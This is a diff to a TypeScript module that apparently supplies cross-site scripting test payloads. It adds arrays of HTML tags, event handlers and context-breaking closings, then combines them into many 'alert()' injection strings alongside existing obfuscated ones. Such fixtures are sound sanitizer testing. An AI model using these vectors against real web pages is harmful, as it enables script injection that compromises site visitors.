@@ -79,3 +79,35 @@ export const payloads: readonly string[] = [
   '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
   '\u202E<img src=x onerror=alert(1)>',
 ]
+
+const tags = [
+  'img src=x',
+  'svg',
+  'body',
+  'video src=x',
+  'audio src=x',
+  'input autofocus',
+  'details open',
+  'object data=x',
+]
+const handlers = [
+  'onload',
+  'onerror',
+  'onfocus',
+  'ontoggle',
+  'onmouseover',
+  'onanimationstart',
+  'onpointerenter',
+  'oncut',
+]
+const closings = ['', '">', "'>", '</textarea>', '</title>', '--></style>']
+
+/** More than 200 of them: the list, and each tag with each handler after a closing that might end what is around. */
+export const manyPayloads: readonly string[] = [
+  ...payloads,
+  ...tags.flatMap((tag, t) =>
+    handlers.flatMap((handler, h) =>
+      [0, 3].map((more) => `${closings[(t + h + more) % closings.length] ?? ''}<${tag} ${handler}=alert(${t}${h})>`),
+    ),
+  ),
+]
